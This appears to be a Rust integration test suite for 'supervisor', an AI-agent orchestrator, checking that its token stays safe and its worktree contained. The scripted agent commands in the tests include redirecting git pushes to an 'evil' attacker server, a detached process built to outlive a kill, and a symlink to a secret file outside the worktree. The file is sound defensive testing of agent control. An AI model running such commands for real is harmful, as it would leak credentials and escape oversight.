//! Agents never hold the keys: a stage that re-points the worktree's git (its remote, a rewrite
//! rule, its `.git` file) gets nothing from supervisor's push. Each variant runs the real binary
//! against the sandbox GitHub, with the branch's destination and an attacker's server both served
//! over HTTP on the loopback (where supervisor's token may travel) and every request recorded.

use std::process::Stdio;
use std::time::Duration;

use serde_json::json;
use supervisor::demo::{World, WorldSpec};

#[path = "support/http_servers.rs"]
mod http_servers;
#[path = "support/specs.rs"]
mod specs;

use http_servers::GitServer;
use specs::*;

const BIN: &str = env!("CARGO_BIN_EXE_supervisor");

struct Outcome {
    code: Option<i32>,
    stderr: String,
    comments: Vec<String>,
}

/// Run issue 1 with a developer whose first action is `tamper` (a shell command in the worktree;
/// `{good}` and `{evil}` stand for the two servers' URLs), the branch going to the good server.
async fn run_with(tamper: &str) -> (Outcome, GitServer, GitServer, World, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    let evil_root = dir.path().join("evil");
    std::fs::create_dir_all(&evil_root).unwrap();
    let mut spec: WorldSpec = spec();
    spec.script["developer"] = json!([[
        { "run": "TAMPER" },
        { "write": { "path": "src/hours.ts", "content": GOOD_CODE } },
        { "final": supervisor::demo::answer("Done.", json!({ "action": "COMPLETE", "agentName": "developer", "summary": "changed" })) }
    ]]);
    let world = World::build(&dir.path().join("world"), spec)
        .await
        .expect("world builds");
    let good = GitServer::start(world.dir.clone()).await;
    // The attacker's server holds a copy of the repository, so a push there would succeed.
    supervisor::demo::git(
        &evil_root,
        &[
            "clone",
            "--quiet",
            "--bare",
            world.remote.to_str().unwrap(),
            "remote.git",
        ],
    )
    .unwrap();
    let evil = GitServer::start(evil_root).await;
    let good_url = format!("{}/remote.git", good.url);
    let evil_url = format!("{}/remote.git", evil.url);
    let tamper = tamper
        .replace("{good}", &format!("{}/", good.url))
        .replace("{evil}", &format!("{}/", evil.url))
        .replace("{evil_repo}", &evil_url);
    let script = std::fs::read_to_string(&world.script).unwrap();
    let script = script.replace("TAMPER", &tamper.replace('\\', "\\\\").replace('"', "\\\""));
    std::fs::write(&world.script, script).unwrap();
    // The repository's own remote is the good server too, as a user's clone would have it.
    supervisor::demo::git(&world.repo, &["remote", "set-url", "origin", &good_url]).unwrap();

    let mut cmd = tokio::process::Command::new(BIN);
    cmd.args(["run", "1", "--json"])
        .current_dir(&world.repo)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    for (k, _) in std::env::vars() {
        if k.starts_with("SUPERVISOR_") || k.starts_with("GIT_") || k.ends_with("_TOKEN") {
            cmd.env_remove(k);
        }
    }
    cmd.envs(world.env())
        .env("SUPERVISOR_GIT_URL", &good_url)
        .env("HOME", &home);
    let out = tokio::time::timeout(Duration::from_secs(120), cmd.output())
        .await
        .expect("supervisor run finished within 120 s")
        .unwrap();
    let comments = world
        .sandbox
        .with_state(|s| s.comments_of(1).iter().map(|c| c.body.clone()).collect());
    let outcome = Outcome {
        code: out.status.code(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        comments,
    };
    (outcome, good, evil, world, dir)
}

/// What every variant must show: the attacker got nothing at all, nothing was pushed, the run
/// stopped naming what the developer stage changed, and the token is in no comment.
fn assert_nothing_leaked(
    o: &Outcome,
    good: &GitServer,
    evil: &GitServer,
    world: &World,
    change: &str,
) {
    let contacted = evil.requests();
    assert!(
        contacted.is_empty(),
        "the attacker was contacted: {contacted:?}\n{}",
        o.stderr
    );
    let pushes: Vec<_> = good
        .requests()
        .into_iter()
        .filter(|r| r.path.ends_with("git-receive-pack"))
        .collect();
    assert!(pushes.is_empty(), "nothing is pushed: {pushes:?}");
    assert_eq!(o.code, Some(1), "{}", o.stderr);
    assert!(
        o.stderr
            .contains("the Implementation stage (developer) changed the worktree's git set-up"),
        "{}",
        o.stderr
    );
    assert!(o.stderr.contains(change), "names `{change}`: {}", o.stderr);
    for body in &o.comments {
        assert!(!body.contains(&world.token), "{body}");
        assert!(
            !body.contains("127.0.0.1"),
            "no agent-written value is posted: {body}"
        );
    }
    assert!(!o.stderr.contains(&world.token));
    let remote = supervisor::demo::git(&world.remote, &["branch", "--list"]).unwrap();
    assert!(!remote.contains("worktree-git-issue-1"), "{remote}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_remote_url_changed_by_an_agent_gets_nothing() {
    let (o, good, evil, world, _dir) = run_with("git config remote.origin.url {evil_repo}").await;
    assert_nothing_leaked(&o, &good, &evil, &world, "`remote.*.url` changed");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_insteadof_rule_added_by_an_agent_gets_nothing() {
    let (o, good, evil, world, _dir) = run_with("git config url.{evil}.insteadOf {good}").await;
    assert_nothing_leaked(&o, &good, &evil, &world, "`url.*.insteadof` added");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_pushinsteadof_rule_added_by_an_agent_gets_nothing() {
    let (o, good, evil, world, _dir) = run_with("git config url.{evil}.pushInsteadOf {good}").await;
    assert_nothing_leaked(&o, &good, &evil, &world, "`url.*.pushinsteadof` added");
}

/// Under `agentSandbox: "bwrap"` the shared configuration is read-only, so an agent copies the git
/// directory into the worktree, gives the copy its own remote and points `.git` at it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_git_file_pointed_at_a_copied_git_directory_gets_nothing() {
    let (o, good, evil, world, _dir) = run_with(
        "common=$(git rev-parse --git-common-dir) && cp -r \"$common\" .gitcopy \
         && git --git-dir=.gitcopy config remote.origin.url {evil_repo} \
         && git --git-dir=.gitcopy config url.{evil}.insteadOf {good} \
         && printf 'gitdir: .gitcopy\\n' > .git",
    )
    .await;
    assert_nothing_leaked(
        &o,
        &good,
        &evil,
        &world,
        "the worktree's .git file names another git directory",
    );
}

/// A change supervisor does not look for (the user's global configuration, which an unconfined
/// agent can write) redirects nothing either: the run goes on and the push reaches the destination,
/// with the token, and only there.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_global_rewrite_rule_redirects_nothing() {
    let (o, good, evil, world, _dir) = run_with(
        "git config --global url.{evil}.insteadOf {good} \
         && git config --global url.{evil}.pushInsteadOf {good}",
    )
    .await;
    assert_eq!(o.code, Some(0), "{}", o.stderr);
    let contacted = evil.requests();
    assert!(
        contacted.is_empty(),
        "the attacker was contacted: {contacted:?}"
    );
    let token = http_servers::basic("x-access-token", &world.token);
    let pushes: Vec<_> = good
        .requests()
        .into_iter()
        .filter(|r| r.method == "POST" && r.path.ends_with("git-receive-pack"))
        .collect();
    assert!(!pushes.is_empty(), "{}", o.stderr);
    assert!(
        pushes
            .iter()
            .all(|r| r.authorization.as_deref() == Some(token.as_str()))
    );
    let remote = supervisor::demo::git(&world.remote, &["branch", "--list"]).unwrap();
    assert!(remote.contains("worktree-git-issue-1"), "{remote}");
}

/// Processes whose command line holds `marker`.
fn processes_with(marker: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let cmdline = std::fs::read(entry.path().join("cmdline")).unwrap_or_default();
        let stat = std::fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
        let zombie = stat
            .rsplit_once(')')
            .is_some_and(|(_, r)| r.trim_start().starts_with('Z'));
        if !zombie && String::from_utf8_lossy(&cmdline).contains(marker) {
            found.push(pid);
        }
    }
    found
}

/// `kill -9` of supervisor while the developer's shell has a detached child that sleeps, then
/// writes: every process of the run is gone within a second, nothing the child would have written
/// appears, a file written into the worktree after the kill is undone by the resume, and the pull
/// request holds only the developer's work. `wait` is how long the resume waits after the kill.
async fn killed_during_the_developer(wait: Duration) {
    let dir = tempfile::tempdir().unwrap();
    let mut spec: WorldSpec = spec();
    spec.script["developer"] = json!([[
        { "run": "if [ ! -f ../../killed ]; then (setsid sh -c 'sleep 2.0101; echo late > src/orphan.ts' >/dev/null 2>&1 &); touch ../../dev.started; sleep 60.0101; fi" },
        { "write": { "path": "src/hours.ts", "content": GOOD_CODE } },
        { "final": supervisor::demo::answer("Done.", json!({ "action": "COMPLETE", "agentName": "developer", "summary": "changed" })) }
    ]]);
    let world = World::build(&dir.path().join("world"), spec)
        .await
        .expect("world builds");
    let outside = world.worktrees.parent().unwrap().to_path_buf();
    let command = || {
        let mut cmd = tokio::process::Command::new(BIN);
        cmd.args(["run", "1", "--json"])
            .current_dir(&world.repo)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        for (k, _) in std::env::vars() {
            if k.starts_with("SUPERVISOR_") || k.starts_with("GIT_") || k.ends_with("_TOKEN") {
                cmd.env_remove(k);
            }
        }
        cmd.envs(world.env());
        cmd
    };
    let mut first = command().spawn().unwrap();
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while !outside.join("dev.started").exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "the developer never started"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    first.start_kill().unwrap();
    first.wait().await.unwrap();
    let killed = std::time::Instant::now();
    std::fs::write(outside.join("killed"), "").unwrap();
    let mut left = processes_with("2.0101");
    left.extend(processes_with("60.0101"));
    while !left.is_empty() && killed.elapsed() < Duration::from_secs(1) {
        tokio::time::sleep(Duration::from_millis(20)).await;
        left = processes_with("2.0101");
        left.extend(processes_with("60.0101"));
    }
    assert!(left.is_empty(), "alive a second after the kill: {left:?}");
    // Something writes into the worktree after the run died.
    let wt = world.worktrees.join("worktree-git-issue-1");
    std::fs::write(wt.join("src/late.ts"), "export const late = 1;\n").unwrap();
    tokio::time::sleep(wait).await;

    let out = tokio::time::timeout(Duration::from_secs(120), command().output())
        .await
        .expect("the resume finished within 120 s")
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("undid 1 file change(s)"), "{stderr}");
    // Past the orphan's time in every case.
    tokio::time::sleep(Duration::from_millis(2_500).saturating_sub(wait)).await;
    let files = supervisor::demo::git(
        &world.remote,
        &["ls-tree", "-r", "--name-only", "worktree-git-issue-1"],
    )
    .unwrap();
    assert!(files.lines().any(|f| f == "src/hours.ts"), "{files}");
    assert!(
        !files.contains("orphan.ts") && !files.contains("late.ts"),
        "{files}"
    );
    assert!(!wt.join("src/orphan.ts").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_of_a_killed_run_writes_into_an_immediate_resume() {
    killed_during_the_developer(Duration::ZERO).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_of_a_killed_run_writes_into_a_later_resume() {
    killed_during_the_developer(Duration::from_secs(4)).await;
}

/// Everything a run leaves where people and agents read: comments, prompts, journal, transcripts
/// and the pull request.
fn everything_written(world: &World) -> String {
    let mut all = String::new();
    world.sandbox.with_state(|s| {
        for c in s.comments_of(1) {
            all.push_str(&c.body);
        }
        for p in s.pulls() {
            all.push_str(&p.title);
            all.push_str(&p.body);
        }
    });
    let mut stack = vec![world.runs_dir()];
    while let Some(dir) = stack.pop() {
        for entry in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
            let p = entry.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                all.push_str(&String::from_utf8_lossy(
                    &std::fs::read(&p).unwrap_or_default(),
                ));
            }
        }
    }
    all
}

/// A developer commits a link to a file it may not read (outside the worktree): no gate follows
/// it, the gates name the link and send the work back, and the file's content appears nowhere.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_committed_link_out_of_the_worktree_is_named_and_never_followed() {
    let dir = tempfile::tempdir().unwrap();
    let secret_dir = dir.path().join("hidden");
    std::fs::create_dir_all(&secret_dir).unwrap();
    let secret = secret_dir.join("secret.ts");
    std::fs::write(&secret, "export const x = SECRET_MARKER_7731;\n").unwrap();
    let mut spec: WorldSpec = spec();
    spec.workflow = Some(workflow_with_hooks(
        json!([{ "gate": "tsc", "required": true }, "traceability"]),
    ));
    let done = supervisor::demo::answer(
        "Done.",
        json!({ "action": "COMPLETE", "agentName": "developer", "summary": "changed" }),
    );
    spec.script["developer"] = json!([
        [
            { "run": format!("ln -s {} src/config.ts", secret.display()) },
            { "write": { "path": "src/hours.ts", "content": GOOD_CODE } },
            { "final": done }
        ],
        [
            { "run": "rm src/config.ts" },
            { "final": done }
        ]
    ]);
    let world = World::build(&dir.path().join("world"), spec)
        .await
        .expect("world builds");
    let mut cmd = tokio::process::Command::new(BIN);
    cmd.args(["run", "1", "--json"])
        .current_dir(&world.repo)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    for (k, _) in std::env::vars() {
        if k.starts_with("SUPERVISOR_") || k.starts_with("GIT_") || k.ends_with("_TOKEN") {
            cmd.env_remove(k);
        }
    }
    cmd.envs(world.env());
    let out = tokio::time::timeout(Duration::from_secs(180), cmd.output())
        .await
        .expect("the run finished within 180 s")
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    let written = everything_written(&world);
    assert!(
        !written.contains("SECRET_MARKER_7731"),
        "the secret was quoted"
    );
    assert!(!stderr.contains("SECRET_MARKER_7731"));
    assert!(
        written.contains("link out of the worktree (src/config.ts)"),
        "the gates named the link"
    );
    let second = std::fs::read_dir(world.runs_dir())
        .unwrap()
        .flatten()
        .map(|e| e.path().join("prompts/Implementation-2.md"))
        .find(|p| p.is_file())
        .expect("a second developer prompt");
    let prompt = std::fs::read_to_string(second).unwrap();
    assert!(prompt.contains("src/config.ts"), "{prompt}");
    assert!(prompt.contains("link-leaves-worktree"), "{prompt}");
    let files = supervisor::demo::git(
        &world.remote,
        &["ls-tree", "-r", "--name-only", "worktree-git-issue-1"],
    )
    .unwrap();
    assert!(!files.contains("config.ts"), "{files}");
}
